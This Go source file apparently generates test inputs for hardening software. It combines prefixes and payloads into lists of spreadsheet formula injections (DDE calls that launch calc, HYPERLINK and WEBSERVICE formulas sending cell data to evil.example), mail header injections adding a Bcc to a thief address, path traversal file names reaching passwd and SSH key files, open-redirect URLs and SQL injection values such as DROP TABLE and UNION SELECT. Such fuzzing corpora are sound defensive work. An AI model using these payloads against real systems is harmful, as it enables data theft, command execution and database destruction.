package hostile

// Cells returns more than 1,000 different texts of which a program that opens a table could
// make a formula: by their first character, after what it drops, or in a cell or row of their
// own once a separator or a quote is read another way.
func Cells() []string {
	begins := []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", "\x00=", "＝", "＋", "－", "＠", "=+-@", " =", "\u00a0=", "\ufeff=", "\u200b=", "'=", "\"=", "%=", "|=",
		"x;=", "x\t+", "x,@", "x\n-", "x\r\n=", "x\";\"=", "x\",\"=", "x;\"=", "x\"\n=", "-1;=", "x; =", "x;;=", ";=", "x\x0b=", "x\u2028="}
	ends := []string{"1+1", "cmd|' /C calc'!A0", `HYPERLINK("http://evil.example?x="&A1,"pay here")`, `WEBSERVICE("http://evil.example")`,
		"SUM(A1:A9)", "IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")", "2+5+cmd|'/C calc'!A0", "DDE(\"cmd\";\"/C calc\";\"x\")", "1;=2", "1,=2",
		"\"=2\"", "\n=2", "A1\"\",\"\"=B1", "'=1", " 1", "A1", "12.50", "rundll32|'URL.dll,OpenURL evil.example'!A", "INDIRECT(\"A\"&ROW())",
		"EXEC(\"calc\")", "CALL(\"Shell32\",\"ShellExecuteA\",\"JJCCCJJ\",0,\"open\",\"calc\")", "REGISTER.ID(\"a\",\"b\")", "$A$1", "-1", "(1)", "PI()",
		"TRUE", "1e5", "1/0", "A1:B2"}
	return join(begins, ends)
}

// Lines returns more than 300 different texts that try to end the field of a mail or of an
// answer they are in and to begin another.
func Lines() []string {
	breaks := []string{"\r\n", "\n", "\r", "\n\n", "\r\n\r\n", "\u2028", "\u2029", "\u0085", "\x00", "\x0b", "\x0c", "\x1b", "\x7f", "\r\n\t", "\r\n.\r\n", "\n\r", "\x1c", "\x1e", "%0d%0a", "=0D=0A",
		"\\r\\n", "嘊嘍"}
	fields := []string{"Bcc: thief@evil.example", "To: thief@evil.example", "Subject: other", " folded: no", "Content-Type: text/html", ".",
		".\r\nMAIL FROM:<thief@evil.example>", "--boundary", "Set-Cookie: recoup_session=x", "Location: //evil.example"}
	var all []string
	for _, b := range breaks {
		for _, f := range fields {
			all = append(all, "Invoice 4711"+b+f, f+b)
		}
	}
	return append(all, "\xff\xfe", "a\xc3(b", "=?utf-8?q?x=0D=0ABcc:thief@evil.example?=", "=?utf-8?b?DQpCY2M6IHRoaWVmQGV2aWwuZXhhbXBsZQ==?=",
		"a@b.example,thief@evil.example", "a@b.example;thief@evil.example", "<a@b.example> thief@evil.example", "\"a\\\" <thief@evil.example>\"",
		"x\"; filename=\"evil.exe", "x; filename*=utf-8''evil.exe")
}

// Names returns more than 200 different names of files that lead elsewhere, are no names to
// some system, or hide what they are.
func Names() []string {
	ups := []string{"../", "..\\", "../../../../../../", "..\\..\\..\\", "/", "\\", "//", "\\\\evil.example\\", "C:\\", "C:", "./", "~/", "%2e%2e%2f", "..%5c", "..%c0%af",
		"....//", "..;/", "\x00../", "file:///", "a/../../", "․․/", "．．／", "\u202e../"}
	ends := []string{"etc/passwd", "evil.pdf", "evil.pdf\x00.txt", "book.db", ".ssh/authorized_keys", "a\r\nContent-Type: text/html", "evil", "x.pdf."}
	all := join(ups, ends)
	long := make([]byte, 4096)
	for i := range long {
		long[i] = 'a'
	}
	return append(all, "", ".", "..", "/", "\\", "CON", "NUL.pdf", "COM1", "aux.pdf", "a.pdf:stream", "a.pdf::$DATA", "evil\u202efdp.exe", "a\"b.pdf", "a'b.pdf", "a;b.pdf",
		"a,b.pdf", "a%00.pdf", "a\nb.pdf", "a\rb.pdf", "\x1b[31m.pdf", "\xff\xfe.pdf", "<script>.pdf", string(long)+".pdf", "-rf", "--help", "|x.pdf", "`x`.pdf", "$(x).pdf",
		"x\"; filename=\"evil.html", "x; filename*=utf-8''evil.html", ".htaccess", ".pdf", " .pdf", "a .pdf ", "*.pdf", "?.pdf")
}

// Redirects returns more than 100 different addresses that lead to another site, though they
// look like a path of this one.
func Redirects() []string {
	befores := []string{"//", "///", "////", "/\\", "\\\\", "\\/", "/\\/", "//\\", "http://", "https://", "https:", "https:/", "HTTPS://", "http:\\\\", "ftp://", "//\t", "/\t/",
		"/\n/", "\t//", "\n//", " //", "/ /", "\r//", "/%09/", "/%2f", "/%5c", "/./\\", "/x/../\\", "/.//", "/..//", "/x/..//", "/;//", "//%00", "\x00//", "\u00a0//",
		"/\u200b/", "javascript://", "data:text/html,", "//user@", "//localhost@", "https://localhost@", "//localhost.", "//localhost%23@", "/\u2028/", "/\\\\", "/x\\..\\..\\\\",
		"/.\\\\", "/./.\\/", "/today/../\\/"}
	return join(befores, []string{"evil.example", "evil.example/today", "evil.example:80/?/today"})
}

// Values returns more than 300 different values of a parameter that would show in the
// statement of a database, or break the reading of a number, a day or a page mark.
func Values() []string {
	ends := []string{"'", "\"", "`", "')", "'))", "\")", "]", "';", "\\'", "%27", "ʼ", "' ", "0", "1", "-1", "2026-01-01", "name", "", "1)", "x%"}
	tails := []string{"", " OR 1=1", " OR '1'='1", "--", "/*", "; DROP TABLE customer;--", " UNION SELECT 1,2,3--", " ORDER BY 99--", " LIMIT 1 OFFSET -1", "::int",
		" AND 1=CAST((SELECT 1) AS text)", "||(SELECT 1)", " DESC, (SELECT 1)", "$1", "?1", ":a", "\x00"}
	all := join(ends, tails)
	for i, s := range all {
		if s == "" {
			all[i] = "''"
		}
	}
	return append(all, "%", "_", "\\", "%%%%%%%%", "NULL", "NaN", "Infinity", "1e309", "9223372036854775807", "9223372036854775808", "-9223372036854775808",
		"99999999999999999999999999", "0x10", "1_000", "１２", "+1", "1.5", "2026-02-30", "0000-00-00", "9999-12-31", "10000-01-01", "-0001-01-01", "\xff\xfe", "\xed\xa0\x80",
		"a\x00b", "(((((((", "\"unclosed", "a AND", "NEAR(", "a*", "col:x", "^x", "-x", "{x}", "x\" AND \"y", "\u202e", "[]", "{}", "null", "true", "undefined", "../../x")
}

// join puts every end behind every beginning.
func join(begins, ends []string) []string {
	all := make([]string, 0, len(begins)*len(ends))
	for _, b := range begins {
		for _, e := range ends {
			all = append(all, b+e)
		}
	}
	return all
}
